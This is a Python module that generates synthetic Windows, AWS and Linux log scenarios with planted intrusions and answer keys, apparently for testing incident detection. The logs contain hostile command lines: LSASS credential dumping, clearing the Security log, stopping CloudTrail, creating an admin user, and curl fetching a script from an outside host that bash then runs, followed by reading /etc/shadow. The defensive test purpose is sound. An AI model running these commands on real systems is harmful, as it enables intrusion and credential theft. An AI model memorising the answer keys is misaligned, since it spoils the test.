"""The same days around a small incident: what must be told is the incident alone."""

from __future__ import annotations

from datetime import timedelta
from pathlib import Path

from ..aws_trail import DAY as CLOUD_DAY
from ..aws_trail import Trail, user
from ..hosts import audit_log
from ..making import Day, FactRow, Scenario, make_truth
from ..windows.layouts import winlogbeat
from ..windows.machine import CMD, PS, SYS32, Machine
from . import aws, linux, windows

DAY = Day("2026-05-12")
C2, NAME = "203.0.113.91", "files.parcel-desk.test"
TOOL = "C:\\Users\\p.ames\\AppData\\Local\\Temp\\remit\\viewer.exe"


def _phished(m: Machine) -> None:
    """A download that is run, looks about, steals credentials and stays."""
    at = DAY.at
    lure = "C:\\Users\\p.ames\\Downloads\\remittance_viewer.exe"
    m.dns_query(at("09:29:50"), m.procs["edge"], NAME, C2)
    m.wrote(at("09:30:00"), m.procs["edge"], lure)
    m.marked(at("09:30:00.2"), m.procs["edge"], lure, f"http://{NAME}/remittance_viewer.exe")
    first = m.start(at("09:30:20"), lure, f'"{lure}"', m.procs["explorer"], windows.ACCOUNTANT)
    m.dns_query(at("09:30:22"), first, NAME, C2)
    m.net(at("09:30:23"), first, C2, 443, NAME)
    m.wrote(at("09:31:05"), first, TOOL)
    shell = m.start(at("09:31:40"), CMD, 'cmd.exe /c whoami /all & net group "Domain Admins" /domain', first)
    m.run(at("09:31:40.2"), SYS32 + "whoami.exe", "whoami /all", shell)
    m.run(at("09:31:42"), SYS32 + "net.exe", 'net group "Domain Admins" /domain', shell)
    tool = m.start(
        at("09:33:10"), TOOL, f'"{TOOL}" -o C:\\Users\\p.ames\\AppData\\Local\\Temp\\remit\\a.bin', first, level="High"
    )
    m.accessed(
        at("09:33:11"),
        tool,
        m.procs["lsass"],
        "0x1fffff",
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4|UNKNOWN(000001E2A4C1)",
    )
    m.run(
        at("09:35:00"),
        SYS32 + "schtasks.exe",
        f'schtasks /create /sc minute /mo 30 /tn "ViewerUpdate" /tr "{TOOL}" /f',
        first,
    )
    m.task(at("09:35:00.3"), windows.ACCOUNTANT, "\\ViewerUpdate", TOOL)
    m.net(at("09:36:00"), first, C2, 443, NAME)
    m.stop(at("09:37:00"), first)


def _reached(server: Machine) -> None:
    """The administrator's credentials used on the server, its log cleared."""
    at = DAY.at
    server.logon(at("09:38:00"), windows.ADMIN, 3, "10.31.0.21", package="NTLM")
    server.wrote(at("09:38:05"), server.procs["System"], "C:\\Windows\\Temp\\viewer.exe")
    image = "C:\\Windows\\Temp\\viewer.exe"
    server.service(at("09:38:10"), "ViewerHost", image)
    run = server.start(at("09:38:11"), image, image, server.procs["services"])
    server.net(at("09:38:15"), run, C2, 443, NAME)
    shell = server.start(
        at("09:39:00"),
        PS,
        "powershell.exe -nop -w hidden -c Compress-Archive D:\\Shares\\Payroll C:\\Windows\\Temp\\p.zip",
        run,
    )
    server.wrote(at("09:39:04"), shell, "C:\\Windows\\Temp\\p.zip")
    server.run(at("09:41:00"), SYS32 + "wevtutil.exe", "wevtutil cl Security", run)


def write_windows(folder: Path) -> None:
    """Four hosts, one file each."""
    hosts = windows.firm(DAY)
    _phished(hosts["accounting"])
    _reached(hosts["server"])
    for name, m in hosts.items():
        (folder / f"{name}.json").write_text(winlogbeat(m), encoding="utf-8")


_WINDOWS: tuple[FactRow, ...] = (
    ("host", 2, ("hrw-ws21",)),
    ("server", 3, ("hrw-srv1",)),
    ("user", 2, ("p.ames",)),
    ("c2", 3, (C2,)),
    ("name", 2, (NAME,)),
    ("lure", 3, ("remittance_viewer.exe",)),
    ("beacon", 2, (f"remittance_viewer.exe & {C2}",)),
    ("look", 1, ("whoami",)),
    ("tool", 3, ("viewer.exe & lsass",)),
    ("task", 3, ("viewerupdate",)),
    ("logon", 3, ("adm.silva & logged on & 10.31.0.21",)),
    ("service", 3, ("viewerhost",)),
    ("zip", 2, ("p.zip",)),
    ("cleared", 2, ("wevtutil & security",)),
)
WINDOWS_DECOYS = (
    "CcmExec.exe",
    "zabbix_agent2.exe",
    "healthservice.exe",
    "wuauclt.exe",
    "GoogleUpdate",
    "OneDriveStandaloneUpdater",
    "hd.brandt",
    "10.31.0.61",
    "t.okafor",
    "HRW-WS34",
    "svc-veeam",
    "svc-sql",
    "procdump64.exe",
    "choco",
    "n.ruiz",
    "dsquery",
    "ntdsutil",
    "PhotoViewer",
    "python.exe",
    "HRW-DC1",
    "10.31.0.60",
    "Get-DscConfigurationStatus",
    "MsMpEng.exe",
    "MsSense.exe",
    "net use",
)


def _keys(trail: Trail) -> None:
    """A user's lasting key in a stranger's hands: who am I, what is there, a user of its own, the trail stopped, data taken."""
    at = CLOUD_DAY.at
    thief = user(
        "ci-legacy",
        "AKIAQEXAMPLELEGACY01",
        "203.0.113.77",
        "aws-cli/2.15.30 Python/3.11.8 Linux/6.6.9-amd64 exe/x86_64.kali.2024 prompt/off",
    )
    calls = (
        ("sts:GetCallerIdentity", {}),
        ("iam:ListUsers", {}),
        ("s3:ListBuckets", {}),
        ("iam:CreateUser", {"userName": "svc-sync"}),
        ("iam:AttachUserPolicy", {"userName": "svc-sync", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}),
        ("cloudtrail:StopLogging", {"name": "main-trail"}),
        ("s3:GetObject", {"bucketName": "acme-payroll", "key": "2026/q1.xlsx"}),
    )
    for n, (name, request) in enumerate(calls):
        trail.call(at("14:20:00") + timedelta(seconds=40 * n), thief, name, request)


def write_aws(folder: Path) -> None:
    """One trail."""
    trail = Trail()
    aws.account_day(trail)
    _keys(trail)
    trail.write(folder, wrapped=True)


_AWS: tuple[FactRow, ...] = (
    ("key", 3, ("akiaqexamplelegacy01",)),
    ("ip", 3, ("203.0.113.77",)),
    ("user", 3, ("svc-sync",)),
    ("admin", 3, ("administratoraccess",)),
    ("trail", 3, ("stoplogging",)),
    ("object", 3, ("acme-payroll",)),
    ("who", 1, ("getcalleridentity",)),
)


def write_linux(folder: Path) -> None:
    """A web server's shell among a server's day."""
    day = Day("2026-01-22")
    host = linux.server_day("web-03", day)
    at = day.at
    host.boot(900, "/usr/sbin/apache2", "/usr/sbin/apache2 -k start")
    www = ("www-data", 33)
    host.connect(at("09:40:59.8"), 900, "203.0.113.55", 51744, www, kind="accept")
    host.run(
        at("09:41:00"), 41000, 900, "/usr/bin/dash", "sh|-c|id; curl -s http://203.0.113.55/x.sh -o /tmp/.x.sh", www
    )
    host.run(at("09:41:01"), 41001, 41000, "/usr/bin/curl", "curl -s http://203.0.113.55/x.sh -o /tmp/.x.sh", www)
    host.connect(at("09:41:01.2"), 41001, "203.0.113.55", 80, www)
    host.file(at("09:41:02"), 41001, "/tmp/.x.sh", www)
    host.run(at("09:42:00"), 41002, 41000, "/usr/bin/bash", "bash /tmp/.x.sh", www)
    host.run(at("09:42:01"), 41003, 41002, "/usr/bin/cat", "cat /etc/passwd /etc/shadow", www)
    host.run(at("09:43:00"), 41004, 41002, "/usr/bin/crontab", "crontab /tmp/.c", www)
    (folder / "audit.log").write_text(audit_log(host, node=True))


_LINUX: tuple[FactRow, ...] = (
    ("server", 3, ("apache2",)),
    ("host", 2, ("web-03",)),
    ("fetch", 3, ("curl & 203.0.113.55",)),
    ("file", 3, ("/tmp/.x.sh",)),
    ("run", 3, ("bash & /tmp/.x.sh",)),
    ("shadow", 2, ("/etc/shadow",)),
    ("cron", 2, ("crontab",)),
)

SCENARIOS = (
    Scenario(
        "benign_windows_mixed",
        write_windows,
        make_truth(
            "benign_windows_mixed",
            _WINDOWS,
            "lure beacon look tool task logon service zip cleared",
            "T1204.002 T1071 T1033 T1069.002 T1003.001 T1053.005 T1021.002 T1543.003 T1560.001 T1685.005",
            "T1105 T1570 T1078 T1059.003 T1059.001 T1569.002 T1087 T1087.002 T1055 T1074 T1564.003 T1036 T1573 T1571 T1550 T1068 T1134 T1564",
            ("2026-05-12T09:30:00Z", "2026-05-12T09:41:00Z"),
            WINDOWS_DECOYS,
        ),
    ),
    Scenario(
        "benign_aws_mixed",
        write_aws,
        make_truth(
            "benign_aws_mixed",
            _AWS,
            "who user admin trail object",
            "T1078.004 T1136.003 T1098.003 T1685.002 T1530 T1087.004",
            "T1580 T1619 T1526 T1685 T1098 T1069 T1069.003",
            ("2026-04-14T14:20:00Z", "2026-04-14T14:24:00Z"),
            (
                "terraform-apply",
                "prowler-daily",
                "per.lind",
                "nina.haas",
                "github-deploy",
                "GitHubActions",
                "orders-task",
                "i-0a1b2c3d4e5f60718",
                "192.0.2.61",
                "mail-relay",
            ),
        ),
    ),
    Scenario(
        "benign_linux_mixed",
        write_linux,
        make_truth(
            "benign_linux_mixed",
            _LINUX,
            "fetch run shadow cron",
            "T1190 T1105 T1059.004 T1003.008 T1053.003",
            "T1071 T1505.003 T1087 T1087.001 T1033 T1552 T1083 T1005",
            ("2026-01-22T09:40:59Z", "2026-01-22T09:43:00Z"),
            (
                "ansible",
                "unattended-upgrade",
                "rsync",
                "node_exporter",
                "n.ruiz",
                "140.82.121.4",
                "mkoch",
                "mysqldump",
                "certbot",
            ),
        ),
    ),
)
